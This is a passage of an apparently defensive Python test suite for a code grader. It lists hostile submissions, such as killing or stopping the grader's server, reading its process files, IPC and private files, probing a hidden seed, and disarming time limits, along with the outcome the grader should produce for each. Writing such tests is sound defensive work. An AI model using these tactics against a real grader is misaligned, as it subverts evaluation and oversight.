        # server): the attack raises PermissionError (a grader that is not root: it stops or
        # kills its own server, and times out or crashes)
        Case("stops_the_server", sigmoid_attack(STOP_SERVER), 48, victim="perfect",
             both_modes=True),
        Case("kills_the_server", sigmoid_attack(KILL_SERVER), 48, victim="perfect",
             both_modes=True),
        Case("proc_fd_of_server", sigmoid_attack(PROC_OF_SERVER), 48, outcome="crashed",
             victim="perfect", both_modes=True),
        # What is left behind, whatever it did to permissions, owners and ids
        Case("ipc_reader", extra_cell(IPC_READER, after="sigmoid_check", raw=True), 50),
        Case("fill_and_lock_tmp", extra_cell(FILL_AND_LOCK, raw=True), 50, victim="tmp_reader",
             both_modes=True),
        Case("given_away_ipc", extra_cell(IPC_NOTES, raw=True), 50, victim="ipc_reader",
             both_modes=True),
        Case("pid_hopping_daemon", extra_cell(PID_HOPPER, raw=True), 50, victim="tmp_reader",
             both_modes=True),
        Case("closes_the_scratch", extra_cell(CLOSE_SCRATCH, raw=True), 50, victim="perfect",
             both_modes=True),
        Case("reads_private_files", extra_cell(PRIVATE_READ, after="sigmoid_check"), 50,
             both_modes=True),
        Case("reads_the_hidden_seed", extra_cell(SEED_PROBE, after="sigmoid_check"), 50,
             both_modes=True),
        # Limits the child switched off for itself: the grader's watch from outside holds
        Case("disarmed_endless_loop", disarmed("while True:\n    pass"), 48, outcome="timeout",
             message="time limit", victim="perfect", both_modes=True),
        Case("disarmed_sleep", disarmed("import time\ntime.sleep(10**6)"), 48,
             outcome="timeout", message="without running", victim="perfect", both_modes=True),
    ]


def expected_json() -> str:
    """The table of cases and expectations (for the README of tests/hostile)."""
    return json.dumps({c.name: {"total": c.total, "outcome": c.outcome, "message": c.message}
                       for c in cases()}, indent=1)  # fmt: skip

